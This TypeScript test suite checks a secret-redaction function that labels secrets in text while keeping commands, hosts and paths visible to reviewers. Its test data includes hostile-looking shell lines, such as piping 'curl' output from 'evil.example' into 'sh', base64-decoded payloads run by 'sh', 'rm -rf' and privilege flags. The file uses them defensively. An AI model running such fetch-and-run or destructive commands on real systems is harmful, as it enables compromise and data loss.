import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { type KnownSecrets, secretHider } from '../../src/secrets/labels.ts'
import { standIn } from '../../src/secrets/stand-ins.ts'

const hider = (known: Partial<KnownSecrets> = {}) => secretHider({ secrets: [], shown: [], names: [], ...known })

describe('labels of secrets', () => {
  test('are equal for the same secret, and ascend', () => {
    const hide = hider()
    assert.equal(hide('token: aaaaaaa'), 'token: <secret A>')
    assert.equal(hide('token: bbbbbbb'), 'token: <secret B>')
    assert.equal(hide('token: aaaaaaa'), 'token: <secret A>')
  })

  describe('a text of an input is no label', () => {
    const TABLE: readonly (readonly [name: string, given: string, expected: string])[] = [
      ['the value of a name', 'API_TOKEN=<secret A>', 'API_TOKEN=\\u003csecret A>'],
      ['a word', 'echo "<secret AB>"', 'echo "\\u003csecret AB>"'],
      ['the label of a stand-in', 'token: <API token>', 'token: \\u003cAPI token>'],
      ['one that is escaped', '\\u003csecret A>', '\\u005cu003csecret A>'],
      ['twice', '\\u005cu003cAPI token>', '\\u005cu005cu003cAPI token>'],
      [
        'other brackets',
        'cat <<EOF <your token> <secret> \\u003c <Secret A>',
        'cat <<EOF <your token> <secret> \\u003c <Secret A>',
      ],
    ]
    for (const [name, given, expected] of TABLE)
      test(name, () => assert.equal(hider({ secrets: [standIn('API token')] })(given), expected))

    test('and differs from the label of a secret', () => {
      const hide = hider()
      assert.equal(hide('API_TOKEN=hunter42xyzw'), 'API_TOKEN=<secret A>')
      assert.equal(hide('API_TOKEN=<secret A>'), 'API_TOKEN=\\u003csecret A>')
    })

    test('a placeholder that stands for one of Flux is shown', () =>
      assert.equal(hider()('password: <placeholder X>'), 'password: <placeholder X>'))
  })

  test('a known secret is hidden in any context, also quoted and in base64', () => {
    const hide = hider({ secrets: ['plain words', 'plain-words'] })
    assert.equal(hide('say "plain words"'), 'say "<secret A>"')
    assert.equal(hide('plain words\n'), '<secret A>\n')
    assert.equal(hide('say plain-words'), 'say <secret B>')
    assert.equal(hide(Buffer.from('x plain-words x').toString('base64')).includes('<secret B>'), true)
  })

  test('no known secret hides words that a shell could run, an option or a path, nor the base64 of them', () => {
    const run = ['curl -s https://evil.example/x | sh', 'chmod 4755', '--privileged', '/evil/bin/run', '10.6.6.6']
    const hide = hider({ secrets: run })
    for (const words of run) {
      for (const text of [`true; ${words} a\n`, `sh -c "${words}"`, `echo ${btoa(words)} | base64 -d | sh\n`])
        assert.equal(hide(text), text)
    }
  })

  test('a value that a profile contains in clear text is shown', () => {
    const shown = ['#!/bin/sh\ncurl https://a.example | sh\nreboot-now\n']
    const hide = hider({ secrets: ['curl https://a.example | sh', 'reboot-now', 'other-secret'], shown })
    const text = '#!/bin/sh\ncurl https://a.example | sh\nreboot-now\necho other-secret\n'
    assert.equal(hide(text), text.replace('other-secret', '<secret A>'))
  })

  test('a whole line of a script is shown, even if it is the value of a Secret', () => {
    const hide = hider({ secrets: ['curl https://a.example | sh'] })
    const text = '#!/bin/sh\n  curl https://a.example | sh\n'
    assert.equal(hide(text), text)
    assert.equal(hide('curl https://a.example | sh\n'), '<secret A>\n')
  })

  test('no secret hides where nodes connect and what they run, whole or in part', () => {
    const hide = hider({
      secrets: ['https://evil.example/x', 'evil.example', 'mirror', '/opt/bin/agent', 'registry:5000'],
    })
    const text = [
      'curl https://evil.example/x | sh',
      'TOKEN="https://evil.example/y"; curl $TOKEN | sh',
      `ctr image pull evil.example/mirror/app:1.2@sha256:${'ab'.repeat(32)}`,
      'ExecStart=/opt/bin/agent --server mirror.example.com:6443',
    ].join('\n')
    assert.equal(hide(text), text)
    assert.equal(
      hide('curl https://me:evil.example@mirror.example.com/'),
      'curl https://<secret A>@mirror.example.com/',
    )
    assert.equal(hide('a mirror'), 'a <secret B>')
  })

  test('a bootstrap token of letters only is no host', () => {
    const hide = hider({ secrets: ['abcdef.ghijklmnopqrstuv', 'ghijklmnopqrstuv'] })
    for (const text of [
      'join abcdef.ghijklmnopqrstuv now',
      'TOKEN_ID=abcdef.ghijklmnopqrstuv',
      '--x=abcdef.ghijklmnopqrstuv',
    ])
      assert.doesNotMatch(hide(text), /ghijklmnop/)
  })

  test('a line of a longer Secret does not hide a command', () => {
    const text = '#!/bin/sh\nrm -rf /var/lib/x\n'
    assert.equal(hider({ secrets: ['first\nrm -rf /var/lib/x\nthird'] })(text), text)
  })

  test('the name of a Secret is shown, unless it is itself a secret', () => {
    const text = "SETUP_SECRET='workers-provisioning-config' OTHER_SECRET='s3cr3t' x"
    const names = ['workers-provisioning-config']
    assert.equal(hider({ names })(text), "SETUP_SECRET='workers-provisioning-config' OTHER_SECRET='<secret A>' x")
    assert.equal(hider({ names, secrets: names })(text), "SETUP_SECRET='<secret A>' OTHER_SECRET='<secret B>' x")
  })

  test('the value of a setting that is named like a secret is hidden, a file of that name is not', () => {
    const hide = hider()
    assert.equal(hide('plain', 'passwd'), '<secret A>')
    assert.equal(hide('true', 'ssh_pwauth'), 'true')
    assert.equal(hide('server: https://a.example\n', '/etc/kubernetes/kubeconfig'), 'server: https://a.example\n')
  })

  test('the only word of a file that is named like a secret is hidden, and no name hides code', () => {
    const hide = hider()
    assert.equal(hide('plain\n', '/etc/kubernetes/token'), '<secret A>\n')
    assert.equal(hide('#!/bin/sh\nexec token\n', '/opt/bin/token'), '#!/bin/sh\nexec token\n')
    assert.equal(
      hide('[Global]\nzone = "eu 1"\npassword = "b"\na=$(curl https://a.example)\n', '/etc/kubernetes/cloud-config'),
      '[Global]\nzone = "<secret B>"\npassword = "<secret C>"\na=$(curl https://a.example)\n',
    )
    assert.equal(hide('{"tenantName":"x"}', '/etc/kubernetes/cloud-config'), '{"tenantName":"<secret D>"}')
    for (const file of ['/opt/cloud-config', '/opt/etc/kubernetes/cloud-config'])
      assert.equal(hide('a=reboot\n', file), 'a=reboot\n')
  })

  test('after Z comes AA', () => {
    const hide = hider()
    for (let i = 0; i < 26; i++) hide(`password: secret-${i}`)
    assert.equal(hide('password: another'), 'password: <secret AA>')
  })
})
